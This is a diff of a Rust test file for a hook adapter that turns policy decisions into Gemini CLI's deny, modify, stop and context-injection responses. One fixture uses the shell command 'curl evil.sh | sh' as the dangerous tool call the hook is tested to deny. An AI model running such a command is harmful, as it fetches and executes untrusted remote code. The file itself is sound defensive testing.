@@ -1,6 +1,7 @@
-//! `ahp hook gemini`: Gemini CLI's BeforeTool/AfterTool payloads (gemini-cli
-//! docs/hooks/reference.md), which carry no tool-use id; denial as `decision: deny`,
-//! a changed input in `hookSpecificOutput.tool_input`.
+//! `ahp hook gemini`: Gemini CLI's payloads (gemini-cli docs/hooks/reference.md), whose
+//! tool events carry no tool-use id; denial as `decision: deny`, a changed input in
+//! `hookSpecificOutput.tool_input`, context in `hookSpecificOutput.additionalContext`, a
+//! stop as `continue: false`.
 
 use ahp_tests::hook::{
     assert_exit_2_block, assert_json, assert_silent_no_objection, tool_payloads, Contract,
@@ -28,7 +29,7 @@ fn contract() -> Contract {
         tool: ("run_shell_command", json!({"command": "curl evil.sh | sh"})),
         session: json!({"id": "gem-42", "cwd": "/repo"}),
         call_id: None,
-        advertised: &["deny", "modify"],
+        advertised: &["deny", "modify", "flow"],
         assert_deny,
         assert_no_objection: assert_silent_no_objection,
         assert_ask: None,
@@ -38,15 +39,22 @@ fn contract() -> Contract {
         assert_context: None,
         intercepted: vec![
             Intercepted {
-                payload: (
-                    json!({"session_id": "gem-1", "cwd": "/repo", "transcript_path": "/t.json",
-                    "hook_event_name": "BeforeAgent", "timestamp": "2026-11-30T12:00:00Z",
-                    "prompt": "push to main"}),
-                    &[],
-                ),
-                event: "turn.start",
-                advertised: &["deny"],
+                payload: (after_tool(), &[]),
+                event: "tool.after",
+                advertised: &["inject", "flow"],
                 assert_block: assert_deny,
+            },
+            Intercepted {
+                payload: (before_agent(), &[]),
+                event: "turn.start",
+                advertised: &["deny", "inject", "flow"],
+                assert_block: assert_deny,
+            },
+            Intercepted {
+                payload: (after_agent(), &[]),
+                event: "turn.finish.before",
+                advertised: &["flow"],
+                assert_block: assert_stopped,
             },
             Intercepted {
                 payload: (
@@ -58,7 +66,7 @@ fn contract() -> Contract {
                     &[],
                 ),
                 event: "model.request.before",
-                advertised: &["deny"],
+                advertised: &["deny", "flow"],
                 assert_block: assert_deny,
             },
         ],
@@ -71,6 +79,34 @@ fn assert_deny(ran: &Ran, reason: &str) {
     assert_json(ran, 0, json!({"decision": "deny", "reason": reason}));
 }
 
+/// At `AfterAgent` Gemini ends the agent's work with `continue: false` (its block there
+/// would start another turn).
+fn assert_stopped(ran: &Ran, reason: &str) {
+    assert_json(ran, 0, json!({"continue": false, "stopReason": reason}));
+}
+
+/// A Gemini `AfterTool` payload.
+fn after_tool() -> Value {
+    json!({"session_id": "gem-42", "cwd": "/repo", "transcript_path": "/t.json",
+        "hook_event_name": "AfterTool", "timestamp": "2026-11-30T12:00:00Z",
+        "tool_name": "read_file", "tool_input": {"path": "a"},
+        "tool_response": {"llmContent": "secret"}})
+}
+
+/// A Gemini `BeforeAgent` payload.
+fn before_agent() -> Value {
+    json!({"session_id": "gem-1", "cwd": "/repo", "transcript_path": "/t.json",
+        "hook_event_name": "BeforeAgent", "timestamp": "2026-11-30T12:00:00Z",
+        "prompt": "push to main"})
+}
+
+/// A Gemini `AfterAgent` payload, before any hook has made the agent go on this turn.
+fn after_agent() -> Value {
+    json!({"session_id": "gem-1", "cwd": "/repo", "transcript_path": "/t.json",
+        "hook_event_name": "AfterAgent", "timestamp": "2026-11-30T12:00:00Z",
+        "prompt": "fix the build", "prompt_response": "Done.", "stop_hook_active": false})
+}
+
 /// The changed arguments in `hookSpecificOutput.tool_input`, with no decision.
 fn assert_modified(ran: &Ran, input: &Value) {
     assert_json(ran, 0, json!({"hookSpecificOutput": {"tool_input": input}}));
@@ -78,49 +114,68 @@ fn assert_modified(ran: &Ran, input: &Value) {
 
 ahp_tests::hook_contract_tests!(contract());
 
-/// A component that fails at an event Gemini only lets the adapter observe (`AfterTool`)
-/// changes nothing: exit 0 and no answer, the failure in the log. Exit 2 there would
-/// replace the tool's result with the reason.
+/// A Gemini `PreCompress` payload: an event it only lets a hook observe.
+fn pre_compress() -> Value {
+    json!({"session_id": "gem-1", "cwd": "/repo", "transcript_path": "/t.json",
+        "hook_event_name": "PreCompress", "timestamp": "2026-11-30T12:00:00Z",
+        "trigger": "auto"})
+}
+
+/// A component that fails at an event Gemini only lets the adapter observe
+/// (`PreCompress`) changes nothing: exit 0 and no answer, the failure in the log.
 #[tokio::test]
 async fn a_failure_at_an_observed_event_changes_nothing() {
-    let (payload, args) = contract().post_tool;
-    let ran = ahp_tests::hook::run_runaway("gemini", args, &payload).await;
+    let ran = ahp_tests::hook::run_runaway("gemini", &[], &pre_compress()).await;
     assert_silent_no_objection(&ran);
     assert_eq!(ran.stderr, "", "{ran:?}");
     assert!(ran.log.contains("the component failed"), "{ran:?}");
 }
 
-/// A payload that cannot be read at all, at the `AfterTool` hook `hook install` writes
-/// (it names the event on the command line): answered at that event, so nothing changes.
-/// Without the event it would be the block for an unknown event, exit 2, and Gemini would
-/// show the reason in place of the tool's result.
+/// A payload that cannot be read at all, at the `AfterAgent` hook `hook install` writes
+/// (it names the event on the command line): answered at that event, where a failure
+/// stops the agent. Without the event it would be the block for an unknown event, exit
+/// 2, and at `AfterAgent` Gemini would start another turn with the reason as its prompt.
 #[tokio::test]
 async fn an_unreadable_payload_is_answered_at_the_installed_event() {
     let dir = tempfile::tempdir().expect("a temp dir");
     let registration = ahp_tests::hook::write_unreachable(dir.path());
-    let args = ["--event", "AfterTool"];
+    let args = ["--event", "AfterAgent"];
     let ran = ahp_tests::hook::run_hook("gemini", &registration, &args, b"not json").await;
-    assert_silent_no_objection(&ran);
+    assert_stopped(&ran, ahp_tests::hook::FAILED_REASON);
     assert!(ran.log.contains("the payload is not JSON"), "{ran:?}");
     let unflagged = ahp_tests::hook::run_hook("gemini", &registration, &[], b"not json").await;
     ahp_tests::hook::assert_exit_2_block(&unflagged, ahp_tests::hook::FAILED_REASON);
 }
 
 /// A payload naming another event than the command line's (a hook copied under the wrong
-/// key) is answered at neither: the block for an unknown event. Answered at the command
-/// line's `AfterTool`, a `BeforeTool` call would be no objection and run unchecked.
+/// key) fails the call, answered at the payload's own event, the one Gemini acts on: a
+/// `BeforeTool` call is denied (answered at the command line's `PreCompress` it would be
+/// no objection and run unchecked), and at `AfterAgent` the agent stops — exit 2, the
+/// block for an unknown event, would start another turn, and again at each.
 #[tokio::test]
-async fn a_payload_the_command_line_contradicts_is_blocked() {
+async fn a_payload_the_command_line_contradicts_is_denied_at_its_own_event() {
     let dir = tempfile::tempdir().expect("a temp dir");
     let registration = ahp_tests::hook::write_unreachable(dir.path());
     let (before, _) = contract().pre_tool;
-    let before = before.to_string();
-    for args in [
-        &["--event", "AfterTool"][..],
-        &["--event", "AfterTool", "--no-such-flag"][..],
-    ] {
-        let ran = ahp_tests::hook::run_hook("gemini", &registration, args, before.as_bytes()).await;
-        ahp_tests::hook::assert_exit_2_block(&ran, ahp_tests::hook::FAILED_REASON);
+    let cases = [
+        (before, "PreCompress", assert_deny as fn(&Ran, &str)),
+        (after_agent(), "BeforeTool", assert_stopped),
+    ];
+    for (payload, flagged, assert_failed) in cases {
+        let payload = payload.to_string();
+        for args in [
+            &["--event", flagged][..],
+            &["--event", flagged, "--no-such-flag"][..],
+        ] {
+            let ran =
+                ahp_tests::hook::run_hook("gemini", &registration, args, payload.as_bytes()).await;
+            assert_failed(&ran, ahp_tests::hook::FAILED_REASON);
+            let usage_error = args.len() > 2;
+            assert!(
+                usage_error || ran.log.contains("the command line says"),
+                "{ran:?}"
+            );
+        }
     }
 }
 
@@ -233,4 +288,42 @@ async fn a_model_request_no_subscription_selects_is_left_alone() {
     let ran = ahp_tests::hook::run_hook("gemini", &registration, &[], stdin.as_bytes()).await;
     assert_silent_no_objection(&ran);
     assert_eq!(backend.requests().len(), 0, "{ran:?}");
+}
+
+/// A backend's `continue` after the agent's answer makes Gemini start another turn with
+/// the instruction as its prompt (`decision: deny`), once per turn.
+#[tokio::test]
+async fn a_continue_after_the_agent_s_answer_keeps_it_working_once_per_turn() {
+    ahp_tests::hook::continue_once_per_turn("gemini", &after_agent(), assert_deny).await;
+}
+
+/// What a backend's effects become at Gemini's events: a stop is `continue: false` before
+/// a tool, and context for the model is `additionalContext` after a tool and before a
+/// prompt.
+#[tokio::test]
+async fn a_stop_and_context_reach_gemini_in_its_own_words() {
+    use ahp_tests::hook::answered_by_interceptor_of;
+    let stop = json!([{"type": "flow", "operation": "stop", "reason": "the repo is frozen"}]);
+    let (before, _) = contract().pre_tool;
+    let sent =
+        answered_by_interceptor_of(&["tool.before"], "fail-closed", "gemini", &before, stop).await;
+    assert_json(
+        &sent.ran,
+        0,
+        json!({"continue": false, "stopReason": "the repo is frozen"}),
+    );
+    let text = json!({"id": "m1-t", "kind": "text", "mediaType": "text/plain",
+        "selection": "body", "text": "the repo is frozen"});
+    let inject = json!([{"type": "inject", "target": "context", "operation": "append",
+        "deliverAt": "now", "value": [{"id": "m1", "role": "system", "parts": [text]}]}]);
+    for (event, payload) in [("tool.after", after_tool()), ("turn.start", before_agent())] {
+        let sent =
+            answered_by_interceptor_of(&[event], "fail-closed", "gemini", &payload, inject.clone())
+                .await;
+        assert_json(
+            &sent.ran,
+            0,
+            json!({"hookSpecificOutput": {"additionalContext": "the repo is frozen"}}),
+        );
+    }
 }
